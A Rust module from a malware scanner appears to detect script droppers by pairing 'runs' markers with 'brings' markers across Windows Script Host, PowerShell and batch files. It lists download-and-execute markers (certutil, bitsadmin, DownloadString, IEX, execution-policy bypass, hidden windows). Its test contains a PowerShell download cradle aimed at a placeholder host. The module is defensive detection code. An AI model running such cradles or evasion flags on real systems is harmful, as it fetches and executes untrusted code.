//! Scripts that drop programs: one that both fetches or builds a file and runs it. Each half alone is everyday, so both are
//! asked for. Nothing is interpreted. Encoded scripts (`#@~^`) are decoded by nobody here and are not read.

use crate::format::{Format, contains};
use crate::report::{FindingKind, Unscannable};
use crate::walk::{Node, Walk};

/// A script larger than this is data.
const SCRIPT_BYTES_MAX: usize = 8 << 20;

/// What runs something, per language; and what fetches, builds or hides it.
struct Pair {
    runs: &'static [&'static [u8]],
    brings: &'static [&'static [u8]],
}

const WINDOWS_SCRIPT: Pair = Pair {
    runs: &[b"wscript.shell", b"shell.application", b"winmgmts:", b"new activexobject(\"wscript", b"schedule.service"],
    brings: &[
        b"adodb.stream",
        b"xmlhttp",
        b"winhttp",
        b"savetofile",
        b"urldownloadtofile",
        b"powershell",
        b"frombase64",
        b"msxml2.domdocument",
        b"certutil",
        b"bitsadmin",
        b"mshta",
        b"bin.base64",
    ],
};
const POWERSHELL: Pair = Pair {
    runs: &[
        b"iex ",
        b"iex(",
        b"|iex",
        b"| iex",
        b"invoke-expression",
        b"start-process",
        b"reflection.assembly]::load",
        b"virtualalloc",
        b"shellexecute",
    ],
    brings: &[
        b"downloadstring",
        b"downloadfile",
        b"downloaddata",
        b"net.webclient",
        b"invoke-webrequest",
        b"frombase64string",
        b"start-bitstransfer",
        b"invoke-restmethod",
        b"writeallbytes",
        b"gzipstream",
        b"deflatestream",
    ],
};
const BATCH: Pair = Pair {
    runs: &[
        b"start ",
        b"cmd /c",
        b"cmd.exe /c",
        b"rundll32",
        b"regsvr32",
        b"-executionpolicy bypass",
        b"-ep bypass",
        b"-windowstyle hidden",
        b"-w hidden",
    ],
    brings: &[
        b"certutil -decode",
        b"certutil -urlcache",
        b"certutil.exe -urlcache",
        b"certutil.exe -decode",
        b"bitsadmin /transfer",
        b"-encodedcommand",
        b"-enc ",
        b"downloadstring",
        b"downloadfile",
        b"mshta http",
    ],
};

/// Marks of Microsoft's script encoder.
const ENCODED: &[u8] = b"#@~^";

pub(crate) fn inspect(walk: &mut Walk<'_>, node: &Node, format: &Format, bytes: &[u8]) {
    let is_text = matches!(format.name, "txt" | "html" | "svg" | "xml" | "sh");
    if !is_text || bytes.len() > SCRIPT_BYTES_MAX {
        return;
    }
    if bytes.trim_ascii_start().starts_with(ENCODED) || (contains(bytes, b".Encode\"") && contains(bytes, ENCODED)) {
        walk.note(node, Unscannable::Unsupported, "encoded script");
    }
    if let Some((runs, brings)) = dropper(bytes) {
        let text = |sign: &[u8]| String::from_utf8_lossy(sign).trim().to_owned();
        walk.find(node, FindingKind::ScriptDropper, &format!("{} with {}", text(brings), text(runs)));
    }
}

/// Whether text looks like a script that is worth opening when it was hidden in another.
pub(super) fn is_script(bytes: &[u8]) -> bool {
    const SIGNS: [&[u8]; 12] = [
        b"eval(",
        b"function",
        b"createobject",
        b"activexobject",
        b"powershell",
        b"iex",
        b"invoke-",
        b"new-object",
        b"<script",
        b"cmd.exe",
        b"#!/",
        b"atob(",
    ];
    let narrow: Vec<u8> =
        bytes.iter().copied().take(64 << 10).filter(|byte| *byte != 0).map(|byte| byte.to_ascii_lowercase()).collect();
    SIGNS.iter().any(|sign| contains(&narrow, sign))
}

/// The two halves that were found.
fn dropper(bytes: &[u8]) -> Option<(&'static [u8], &'static [u8])> {
    let folded = bytes.to_ascii_lowercase();
    let first = |signs: &'static [&'static [u8]]| signs.iter().copied().find(|sign| contains(&folded, sign));
    [&WINDOWS_SCRIPT, &POWERSHELL, &BATCH].into_iter().find_map(|pair| Some((first(pair.runs)?, first(pair.brings)?)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_halves_are_needed() {
        assert!(dropper(b"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')").is_some());
        assert!(dropper(b"var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');").is_some());
        assert!(dropper(b"try { return new ActiveXObject('Microsoft.XMLHTTP') } catch (e) {}").is_none());
        assert!(dropper(b"Invoke-WebRequest https://x.test/ | Select-Object Content").is_none());
    }
}
